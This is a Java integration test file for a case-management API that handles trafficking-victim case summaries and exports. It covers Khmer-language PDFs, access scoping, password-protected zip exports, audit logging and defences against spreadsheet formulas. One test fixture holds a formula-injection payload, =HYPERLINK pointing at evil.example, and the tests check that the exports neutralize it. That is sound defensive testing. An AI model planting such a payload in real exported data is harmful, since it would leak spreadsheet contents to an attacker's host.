package org.haven.cases;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.UUID;
import net.lingala.zip4j.exception.ZipException;
import net.lingala.zip4j.io.inputstream.ZipInputStream;
import net.lingala.zip4j.model.LocalFileHeader;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.documentinterchange.markedcontent.PDMarkedContent;
import org.apache.pdfbox.text.PDFMarkedContentExtractor;
import org.apache.pdfbox.text.PDFTextStripper;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.haven.HavenTest;
import org.haven.audit.AuditAction;
import org.haven.audit.AuditEvents;
import org.haven.identity.CurrentUser;
import org.haven.identity.IdentityFixtures;
import org.haven.identity.Role;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.context.ApplicationContext;
import org.springframework.context.MessageSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** Case summary PDFs and case exports over the API: language, scope, headers, audit, encryption, formulas. */
@HavenTest
class CaseDocumentsTests {

    static final JsonMapper JSON = JsonMapper.builder().build();
    static final String PASSWORD = "correct horse battery staple";
    static final String KHMER_NAME = "ស្រីនិច";
    static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Open\")";
    static final Locale KHMER = Locale.forLanguageTag("km");

    @LocalServerPort
    int port;

    @Autowired
    ApplicationContext context;

    @Autowired
    MessageSource messages;

    final HttpClient http = HttpClient.newHttpClient();
    IdentityFixtures identity;
    CaseFixtures cases;
    AuditEvents audit;
    UUID organization;
    IdentityFixtures.Person caseworker;
    IdentityFixtures.Person colleague;
    IdentityFixtures.Person supervisor;
    String caseworkerToken;
    String supervisorToken;
    String stranger;

    @BeforeEach
    void setUp() {
        identity = new IdentityFixtures(context);
        cases = new CaseFixtures(context);
        audit = new AuditEvents(context);
        organization = identity.organization("Documents");
        UUID team = identity.team(organization);
        UUID otherTeam = identity.team(organization);
        caseworker = identity.person(organization, Role.CASEWORKER, team);
        colleague = identity.person(organization, Role.CASEWORKER, otherTeam);
        supervisor = identity.person(organization, Role.SUPERVISOR, team);
        caseworkerToken = identity.token(caseworker);
        supervisorToken = identity.token(supervisor);
        stranger = identity.token(identity.person(identity.organization("Elsewhere"), Role.CASEWORKER));
    }

    JsonNode openCase(String token, String name) {
        HttpResponse<byte[]> response = send("POST", "/api/v1/cases", token, CasesApiTests.newCase(name, true), "en");
        assertThat(response.statusCode())
                .as(new String(response.body(), StandardCharsets.UTF_8))
                .isEqualTo(201);
        return JSON.readTree(response.body());
    }

    /** A case with consent, an assessment and a note, so every section of the summary has content. */
    JsonNode fullCase(String name) {
        JsonNode opened = openCase(caseworkerToken, name);
        UUID id = UUID.fromString(opened.get("id").asString());
        CurrentUser me = identity.signedIn(caseworker);
        cases.consentToServices(me, id);
        cases.assess(me, id, 2, 3);
        cases.notes.add(
                me,
                id,
                new CaseNotes.NoteInput(
                        "HOME_VISIT", LocalDate.now().toString(), "Visited the family; the child is at school."));
        return opened;
    }

    @Test
    void summaryIsAPdfOfTheCaseInKhmerWithTheKhmerNameAndReference() throws IOException {
        JsonNode opened = fullCase("Sreynich Touch");
        String id = opened.get("id").asString();
        String reference = opened.get("reference").asString();

        HttpResponse<byte[]> response =
                send("GET", "/api/v1/cases/" + id + "/summary.pdf", caseworkerToken, null, "km");

        assertThat(response.statusCode()).isEqualTo(200);
        assertThat(response.headers().firstValue("Content-Type")).hasValue("application/pdf");
        assertThat(response.headers().firstValue("Content-Disposition"))
                .hasValueSatisfying(d -> assertThat(d)
                        .startsWith("attachment")
                        .contains(reference)
                        .doesNotContain("Sreynich"));
        assertThat(response.headers().firstValue("Cache-Control"))
                .hasValueSatisfying(c -> assertThat(c).contains("no-store"));
        assertThat(response.headers().firstValue("X-Content-Type-Options")).hasValue("nosniff");
        try (PDDocument pdf = Loader.loadPDF(response.body())) {
            String text = String.join("\n", allActualTexts(pdf));
            assertThat(text)
                    .contains(KHMER_NAME, reference, "Sreynich Touch")
                    .contains(km("documents.section.person"), km("documents.section.consents"))
                    .contains(km("code.MeansOfControl.DebtBondage"), km("code.Sex.FEMALE"))
                    .contains(km("code.RiskLevel.HIGH"), km("code.NoteKind.HOME_VISIT"))
                    .contains("Visited the family");
            assertThat(pdf.getDocumentInformation().getTitle())
                    .contains(reference)
                    .doesNotContain("Sreynich")
                    .doesNotContain(KHMER_NAME);
        }

        List<AuditEvents.Event> exports = audit.of(organization, AuditAction.EXPORT);
        assertThat(exports).singleElement().satisfies(event -> {
            assertThat(event.recordType()).isEqualTo("case_file");
            assertThat(event.recordId()).hasToString(id);
            assertThat(event.actorId()).isEqualTo(caseworker.id());
            assertThat(event.details()).containsEntry("format", "PDF").containsEntry("language", "km");
        });
    }

    @Test
    void summaryInEnglishShowsEveryCodeThroughItsMessage() throws IOException {
        JsonNode opened = fullCase("Sreypov Chea");
        String id = opened.get("id").asString();

        HttpResponse<byte[]> response =
                send("GET", "/api/v1/cases/" + id + "/summary.pdf", caseworkerToken, null, "en");

        assertThat(response.statusCode()).isEqualTo(200);
        try (PDDocument pdf = Loader.loadPDF(response.body())) {
            String text = new PDFTextStripper().getText(pdf);
            assertThat(text)
                    .contains("Sreypov Chea", "Debt bondage", "Drugs or alcohol", "Prostitution", "Siem Reap")
                    .contains("Latest assessment", "Severe concern", "Home visit", "In force")
                    .doesNotContain("DebtBondage", "HOME_VISIT", "+855 97 555 0101");
            assertThat(pdf.getDocumentInformation().getTitle())
                    .isEqualTo("Haven case " + opened.get("reference").asString());
        }
    }

    @Test
    void aCaseOutOfReachAnswers404AndIsNotExported() {
        String id = openCase(caseworkerToken, "Leakhena Sam").get("id").asString();

        HttpResponse<byte[]> elsewhere = send("GET", "/api/v1/cases/" + id + "/summary.pdf", stranger, null, "en");
        HttpResponse<byte[]> colleagues =
                send("GET", "/api/v1/cases/" + id + "/summary.pdf", identity.token(colleague), null, "en");

        for (HttpResponse<byte[]> response : List.of(elsewhere, colleagues)) {
            assertThat(response.statusCode()).isEqualTo(404);
            assertThat(response.headers().firstValue("Content-Type"))
                    .hasValueSatisfying(t -> assertThat(t).contains("problem+json"));
            assertThat(new String(response.body(), StandardCharsets.UTF_8)).doesNotContain("Leakhena");
        }
        assertThat(audit.of(organization, AuditAction.EXPORT)).isEmpty();
    }

    @Test
    void exportOpensOnlyWithThePasswordAndHoldsOnlyTheCasesInScope() throws IOException {
        String mine = openCase(caseworkerToken, "Chantha Mean").get("reference").asString();
        String colleagues = openCase(identity.token(colleague), "Rachana Kong")
                .get("reference")
                .asString();

        HttpResponse<byte[]> response = send(
                "POST",
                "/api/v1/cases/exports",
                supervisorToken,
                "{\"password\": \"" + PASSWORD + "\", \"formats\": [\"CSV\", \"XLSX\", \"JSON\"], \"open\": true}",
                "en");

        assertThat(response.statusCode())
                .as(new String(response.body(), StandardCharsets.UTF_8))
                .isEqualTo(200);
        assertThat(response.headers().firstValue("Content-Type")).hasValue("application/zip");
        assertThat(response.headers().firstValue("Content-Disposition"))
                .hasValueSatisfying(d -> assertThat(d).startsWith("attachment").contains("haven-cases-"));
        assertThat(response.headers().firstValue("Cache-Control"))
                .hasValueSatisfying(c -> assertThat(c).contains("no-store"));
        byte[] zip = response.body();
        assertThatThrownBy(() -> unzip(zip, "wrong horse battery staple".toCharArray()))
                .isInstanceOf(ZipException.class);
        assertThatThrownBy(() -> unzip(zip, null)).isInstanceOf(ZipException.class);

        Map<String, byte[]> files = unzip(zip, PASSWORD.toCharArray());
        assertThat(files).containsOnlyKeys("cases.csv", "cases.json", "export.xlsx");
        List<CSVRecord> csv = csv(files.get("cases.csv"));
        assertThat(csv.get(0).toList()).isEqualTo(CaseExports.COLUMNS);
        assertThat(csv).hasSize(2);
        Map<String, String> row = csv.get(1).toList().stream()
                .collect(LinkedHashMap::new, (m, v) -> m.put(CaseExports.COLUMNS.get(m.size()), v), Map::putAll);
        assertThat(row)
                .containsEntry("reference", mine)
                .containsEntry("name", "Chantha Mean")
                .containsEntry("name_khmer", KHMER_NAME)
                .containsEntry("stage", "Identified")
                .containsEntry("htcds_status", "Active")
                .containsEntry("province", "Siem Reap")
                .containsEntry("sex", "Female")
                .containsEntry("age", "13");
        String everything = new String(files.get("cases.csv"), StandardCharsets.UTF_8)
                + new String(files.get("cases.json"), StandardCharsets.UTF_8);
        assertThat(everything)
                .doesNotContain(colleagues)
                .doesNotContain("Rachana")
                .doesNotContain("+855 97 555 0101")
                .doesNotContain("Found at a bar");

        List<AuditEvents.Event> exports = audit.of(organization, AuditAction.EXPORT);
        assertThat(exports).singleElement().satisfies(event -> {
            assertThat(event.actorId()).isEqualTo(supervisor.id());
            assertThat(event.recordType()).isEqualTo("case_file");
            assertThat(event.details())
                    .containsEntry("rows", 1)
                    .containsEntry("open", true)
                    .containsEntry("references", mine);
        });
    }

    @Test
    void spreadsheetFormulasInNamesAreNeutralizedInCsvAndXlsx() throws IOException {
        CurrentUser me = identity.signedIn(caseworker);
        cases.cases.open(me, new NewCase(CaseFixtures.child(HYPERLINK, "@ស្រី"), null, CaseDetails.NONE, true));
        cases.cases.open(me, new NewCase(CaseFixtures.child("+855 trick", "-ស្រី"), null, CaseDetails.NONE, true));

        HttpResponse<byte[]> response = send(
                "POST",
                "/api/v1/cases/exports",
                supervisorToken,
                "{\"password\": \"" + PASSWORD + "\", \"formats\": [\"CSV\", \"XLSX\", \"JSON\"]}",
                "en");

        assertThat(response.statusCode()).isEqualTo(200);
        Map<String, byte[]> files = unzip(response.body(), PASSWORD.toCharArray());
        int name = CaseExports.COLUMNS.indexOf("name");
        int khmer = CaseExports.COLUMNS.indexOf("name_khmer");
        List<List<String>> expected = List.of(List.of("'" + HYPERLINK, "'@ស្រី"), List.of("'+855 trick", "'-ស្រី"));

        List<CSVRecord> csv = csv(files.get("cases.csv"));
        assertThat(csv.subList(1, csv.size()).stream()
                        .map(r -> List.of(r.get(name), r.get(khmer)))
                        .toList())
                .containsExactlyInAnyOrderElementsOf(expected);

        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(files.get("export.xlsx")))) {
            Sheet sheet = workbook.getSheet("cases");
            List<List<String>> cells = new ArrayList<>();
            for (int r = 1; r <= sheet.getLastRowNum(); r++) {
                Row row = sheet.getRow(r);
                Cell cell = row.getCell(name);
                assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
                cells.add(List.of(cell.getStringCellValue(), row.getCell(khmer).getStringCellValue()));
            }
            assertThat(cells).containsExactlyInAnyOrderElementsOf(expected);
        }
        assertThat(new String(files.get("cases.json"), StandardCharsets.UTF_8))
                .as("JSON keeps the value verbatim")
                .contains("\"+855 trick\"");
    }

    @Test
    void aShortPasswordOrNoFormatIsRefusedWithProblemDetails() {
        HttpResponse<byte[]> shortPassword = send(
                "POST",
                "/api/v1/cases/exports",
                supervisorToken,
                "{\"password\": \"elevenchars\", \"formats\": [\"CSV\"]}",
                "en");
        HttpResponse<byte[]> noFormat =
                send("POST", "/api/v1/cases/exports", supervisorToken, "{\"password\": \"" + PASSWORD + "\"}", "en");
        HttpResponse<byte[]> unknownFormat = send(
                "POST",
                "/api/v1/cases/exports",
                supervisorToken,
                "{\"password\": \"" + PASSWORD + "\", \"formats\": [\"PDF\"]}",
                "en");

        assertThat(shortPassword.statusCode()).isEqualTo(422);
        assertThat(shortPassword.headers().firstValue("Content-Type"))
                .hasValueSatisfying(t -> assertThat(t).contains("problem+json"));
        JsonNode problem = JSON.readTree(shortPassword.body());
        assertThat(problem.get("code").asString()).isEqualTo("documents.export.password.short");
        assertThat(problem.get("detail").asString()).contains("12 characters");
        assertThat(JSON.readTree(noFormat.body()).get("code").asString())
                .isEqualTo("documents.export.formats.required");
        assertThat(unknownFormat.statusCode()).isEqualTo(422);
        assertThat(audit.of(organization, AuditAction.EXPORT)).isEmpty();
    }

    @Test
    void caseworkersCannotExportInBulk() {
        HttpResponse<byte[]> refused = send(
                "POST",
                "/api/v1/cases/exports",
                caseworkerToken,
                "{\"password\": \"" + PASSWORD + "\", \"formats\": [\"CSV\"]}",
                "en");

        assertThat(refused.statusCode()).isEqualTo(403);
    }

    private String km(String key) {
        return messages.getMessage(key, null, KHMER);
    }

    private HttpResponse<byte[]> send(String method, String path, String token, String json, String language) {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + path))
                .header("Authorization", "Bearer " + token)
                .header("Accept-Language", language);
        if (json == null) {
            request.method(method, HttpRequest.BodyPublishers.noBody());
        } else {
            request.header("Content-Type", "application/json")
                    .method(method, HttpRequest.BodyPublishers.ofString(json));
        }
        try {
            return http.send(request.build(), HttpResponse.BodyHandlers.ofByteArray());
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    static Map<String, byte[]> unzip(byte[] zip, char[] password) throws IOException {
        Map<String, byte[]> files = new LinkedHashMap<>();
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zip), password)) {
            for (LocalFileHeader header; (header = in.getNextEntry()) != null; ) {
                files.put(header.getFileName(), in.readAllBytes());
            }
        }
        return files;
    }

    static List<CSVRecord> csv(byte[] bytes) throws IOException {
        String text = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
        try (CSVParser parser = CSVParser.parse(text, CSVFormat.DEFAULT)) {
            return parser.getRecords();
        }
    }

    /** The /ActualText of every marked-content span, page after page. */
    static List<String> allActualTexts(PDDocument pdf) throws IOException {
        List<String> texts = new ArrayList<>();
        for (PDPage page : pdf.getPages()) {
            PDFMarkedContentExtractor extractor = new PDFMarkedContentExtractor();
            extractor.processPage(page);
            collect(extractor.getMarkedContents(), texts);
        }
        return texts;
    }

    private static void collect(List<?> contents, List<String> texts) {
        for (Object content : contents) {
            if (content instanceof PDMarkedContent marked) {
                if (marked.getActualText() != null) {
                    texts.add(marked.getActualText());
                }
                collect(marked.getContents(), texts);
            }
        }
    }
}
